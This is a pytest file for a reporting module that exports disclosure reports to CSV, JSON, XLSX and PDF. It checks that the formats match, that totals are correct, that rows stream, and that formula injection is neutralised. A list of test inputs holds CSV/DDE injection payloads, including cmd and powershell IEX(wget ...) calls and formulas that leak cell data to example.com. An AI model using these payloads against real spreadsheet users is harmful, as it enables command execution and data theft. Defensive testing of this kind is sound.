"""Reports as files: the same cells in every form, streamed, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import re
import types
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pypdf
import pytest

from disclosures.reports import writers
from disclosures.reports.base import Column, Period, Report, count, figure, query, totals
from disclosures.reports.catalogue import BY_NAME, REPORTS, default_period
from disclosures.reports.writers import as_csv, as_json, as_pdf, plain, write, write_xlsx
from requests.views import downloads
from requests.views.downloads import safe_cell
from tests.reports.conftest import OCTOBER, October

YEAR = Period(dt.date(2026, 1, 1), dt.date(2026, 12, 31))

# --- the forms agree ---


def sheet_of(report: Report, period: Period) -> tuple[list[list[Any]], bytes]:
    """The cells of the workbook as openpyxl reads them, and the workbook."""
    file = io.BytesIO()
    write_xlsx(report, period, file)
    book = openpyxl.load_workbook(io.BytesIO(file.getvalue()))
    rows = [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]
    book.close()
    return rows, file.getvalue()


def day_of(cell: Any) -> Any:
    """A day of a workbook as the other forms write it."""
    return cell.date().isoformat() if isinstance(cell, dt.datetime) else cell


def text_of(pdf: bytes) -> str:
    """All that stands on the sheets, without any space."""
    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
    return re.sub(r"\s", "", "".join(page.extract_text() for page in pages))


@pytest.mark.parametrize("name", BY_NAME)
def test_csv_json_xlsx_and_pdf_hold_the_same_cells(october: October, name: str) -> None:
    report = BY_NAME[name]
    rows = [[plain(cell) for cell in row] for row in report.rows(YEAR)]
    assert rows
    told = list(csv.reader(io.StringIO("".join(as_csv(report, YEAR)), newline="")))
    assert told[0] == report.header()
    assert told[1:] == [[safe_cell(cell) for cell in row] for row in rows]

    whole = json.loads("".join(as_json(report, YEAR)))
    assert (whole["report"], whole["from"], whole["to"]) == (name, "2026-01-01", "2026-12-31")
    assert whole["rows"] == [dict(zip(report.header(), row, strict=True)) for row in rows]

    sheet, _ = sheet_of(report, YEAR)
    assert sheet[0] == report.header()
    assert [[day_of(cell) for cell in row] for row in sheet[1:]] == rows

    page = text_of(as_pdf(report, YEAR))
    for words in (report.title, report.definition, "1 Jan 2026 to 31 Dec 2026", *(column.words for column in report.columns)):
        assert re.sub(r"\s", "", words) in page
    for row in report.rows(YEAR):
        for cell, column in zip(row, report.columns, strict=True):
            assert re.sub(r"\s", "", column.told(cell)) in page


@pytest.mark.parametrize("name", BY_NAME)
def test_the_totals_are_the_sums_of_the_rows_in_every_form(october: October, name: str) -> None:
    report = BY_NAME[name]
    rows, sums = totals(report, report.rows(YEAR))
    summed = {
        column.name: sum(row[index] or 0 for row in rows) for index, column in enumerate(report.columns) if column.is_summed
    }
    assert {column.name: total for column, total in zip(report.columns, sums, strict=True) if total is not None} == summed
    assert json.loads("".join(as_json(report, YEAR)))["totals"] == summed
    assert all(column.is_number for column in report.columns if column.is_summed)


@pytest.mark.parametrize("name", BY_NAME)
def test_a_report_without_a_row_is_whole_in_every_form(october: October, name: str, tmp_path: Path) -> None:
    long_ago = Period(dt.date(1999, 1, 1), dt.date(1999, 1, 31))
    report = BY_NAME[name]
    empty = Report(report.name, report.title, report.definition, report.columns, lambda period: iter(()))
    assert json.loads("".join(as_json(empty, long_ago)))["rows"] == []
    assert len(list(as_csv(empty, long_ago))) == 1
    assert len(sheet_of(empty, long_ago)[0]) == 1
    for kind in writers.FORMATS:
        write(report, long_ago, kind=kind, file=tmp_path / f"report.{kind}")
        assert (tmp_path / f"report.{kind}").stat().st_size > 0


def test_every_report_of_the_contract_is_in_the_catalogue_under_its_name() -> None:
    assert [report.name for report in REPORTS] == [
        "worklist", "ageing", "deadlines", "inventory", "returned_denied", "funnel", "accounting", "form5466b", "recipients",
        "congress_public", "congress_confidential", "holds", "safeguards", "delegations",
    ]  # fmt: skip
    for report in REPORTS:
        assert report.definition.endswith(".")
        assert len(set(report.header())) == len(report.columns)


@pytest.mark.parametrize(
    ("name", "today", "first", "last"),
    [
        ("inventory", "2026-11-23", "2026-01-01", "2026-11-23"),
        ("inventory", "2026-01-01", "2026-01-01", "2026-01-01"),
        ("congress_public", "2026-03-31", "2025-01-01", "2025-12-31"),  # due ninety days after the end of the year
        ("congress_public", "2026-04-01", "2026-01-01", "2026-04-01"),
        ("congress_confidential", "2026-02-28", "2025-01-01", "2025-12-31"),
    ],
)
def test_the_usual_period_is_the_year_so_far_and_for_congress_the_last_whole_one_while_it_is_due(
    name: str, today: str, first: str, last: str
) -> None:
    period = default_period(BY_NAME[name], today=dt.date.fromisoformat(today))
    assert (period.first.isoformat(), period.last.isoformat()) == (first, last)


# --- days ---


def test_a_period_holds_its_last_day_whole_in_the_time_zone_of_the_office() -> None:
    assert OCTOBER.begins.astimezone(dt.UTC) == dt.datetime(2026, 10, 1, 4, tzinfo=dt.UTC)
    assert OCTOBER.ends.astimezone(dt.UTC) == dt.datetime(2026, 11, 1, 4, tzinfo=dt.UTC)
    winter = Period(dt.date(2026, 11, 1), dt.date(2026, 11, 1))  # the day on which summer time ends has 25 hours
    assert winter.ends.astimezone(dt.UTC) - winter.begins.astimezone(dt.UTC) == dt.timedelta(hours=25)


@pytest.mark.parametrize(
    ("first", "last"), [("2026-10-31", "2026-10-01"), ("0001-01-01", "2026-10-01"), ("2026-10-01", "9999-12-31")]
)
def test_days_in_the_wrong_order_or_outside_the_calendar_are_refused_with_a_sentence(first: str, last: str) -> None:
    with pytest.raises(ValueError, match=r"^[A-Z].*\.$"):
        Period(dt.date.fromisoformat(first), dt.date.fromisoformat(last))


# --- streaming ---


def made_up(rows: Any, *columns: Column) -> Report:
    """A report with these rows."""
    return Report("made_up", "Made up", "For a test.", columns, rows)


def test_rows_leave_as_they_are_made() -> None:
    taken: list[int] = []

    def endless(period: Period) -> Iterator[tuple[int]]:
        for number in itertools.count():
            taken.append(number)
            yield (number,)

    for form in (as_csv, as_json):
        taken.clear()
        pieces = form(made_up(endless, count("number", "Number")), OCTOBER)
        assert isinstance(pieces, types.GeneratorType)
        assert len(list(itertools.islice(pieces, 4))) == 4
        assert len(taken) <= 4


@pytest.mark.parametrize("name", BY_NAME)
def test_every_report_streams_its_rows(october: October, name: str) -> None:
    rows = BY_NAME[name].rows(YEAR)
    assert isinstance(rows, types.GeneratorType)
    rows.close()


@pytest.mark.django_db
def test_a_query_streams_through_a_cursor_on_the_server() -> None:
    rows = query("SELECT generate_series(1, 1000000000)", OCTOBER)  # no machine holds them all
    assert [row[0] for row in itertools.islice(rows, 3)] == [1, 2, 3]
    rows.close()  # type: ignore[attr-defined]


@pytest.mark.django_db
def test_a_stream_that_is_left_half_way_leaves_the_connection_fit_for_work() -> None:
    rows = query("SELECT generate_series(1, 1000000)", OCTOBER)
    next(rows)
    del rows
    assert list(query("SELECT 1", OCTOBER)) == [(1,)]


def test_a_printed_table_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writers, "PDF_ROWS", 2)
    page = text_of(as_pdf(made_up(lambda period: ((n,) for n in range(700, 705)), count("number", "Number")), OCTOBER))
    assert "701" in page
    assert "702" not in page
    assert "therestisinthefiles" in page
    assert "3,510" in page  # the sum is of all rows


def test_a_sheet_that_is_full_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloads, "XLSX_ROWS", 2)
    sheet, _ = sheet_of(made_up(lambda period: ((n,) for n in range(5)), count("number", "Number")), OCTOBER)
    assert [row[0] for row in sheet] == ["number", 0, "A sheet holds no more rows; take the CSV."]


# --- no formula ---

FORMULAS = [
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.com?leak=\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"https://example.com?\",A1),\"//a\")",
    "=IMAGE(\"https://example.com/\"&A1)", "=WEBSERVICE(\"https://example.com/\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "+cmd|'/C powershell IEX(wget example.com)'!A0", "-2+3+cmd|' /C calc'!D2",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "  @SUM(1)", "\"=1+1\"", "|cmd", "＝1+1", "＋1", "－1", "＠A1", "=", "-",
    "=1+1;=2", "=\"a\",=\"b\"", "=A1\n=A2", "{=1+1}", "%0A-3+3+cmd|' /C calc'!D2", "=1+1\x00", ";=1+1", ",=1+1",
]  # fmt: skip


def first_sign_is_safe(cell: str) -> bool:
    """Whether a spreadsheet takes this cell for text."""
    return not cell.lstrip().startswith(("=", "+", "-", "@", "|", "＝", "＋", "－", "＠")) and cell[:1] not in "\t\r\n"


def test_no_cell_of_a_csv_file_begins_as_a_formula_and_none_is_lost() -> None:
    report = made_up(lambda period: ((text, text) for text in FORMULAS), Column("a", "A"), Column("b", "B"))
    told = list(csv.reader(io.StringIO("".join(as_csv(report, OCTOBER)), newline="")))[1:]
    assert len(told) == len(FORMULAS)
    for text, cells in zip(FORMULAS, told, strict=True):
        for cell in cells:
            assert first_sign_is_safe(cell)
            assert cell in (text, f"'{text}")


def test_a_number_below_zero_is_no_formula() -> None:
    report = made_up(lambda period: [(-3, -2.5)], count("delta", "Difference"), figure("share", "Share"))
    assert "".join(as_csv(report, OCTOBER)).splitlines()[1] == "-3,-2.5"


def test_every_cell_of_a_workbook_that_looks_like_a_formula_is_text() -> None:
    texts = [text for text in FORMULAS if "\x00" not in text]
    report = made_up(lambda period: ((text,) for text in texts), Column("a", "A"))
    sheet, book = sheet_of(report, OCTOBER)
    # A carriage return is written by its number, since a reader of XML would take it for a line feed.
    assert [row[0].replace("_x000D_", "\r") for row in sheet[1:]] == texts
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "hyperlink" not in xml
        assert not [name for name in parts.namelist() if "externalLink" in name]
    assert "<f>" not in xml
    assert "<f " not in xml
    loaded = openpyxl.load_workbook(io.BytesIO(book)).worksheets[0]
    assert {cell.data_type for row in loaded.iter_rows(min_row=2) for cell in row} == {"s"}


def test_markup_in_a_cell_is_printed_as_it_stands() -> None:
    evil = ["#read(\"/etc/passwd\")", "*bold* _x_ $1$", "<b>&amp;</b>", "]", "\\"]
    page = text_of(as_pdf(made_up(lambda period: ((text,) for text in evil), Column("a", "A")), OCTOBER))
    for text in evil:
        assert re.sub(r"\s", "", text).replace('"', "") in page.replace('"', "").replace("“", "").replace("”", "")
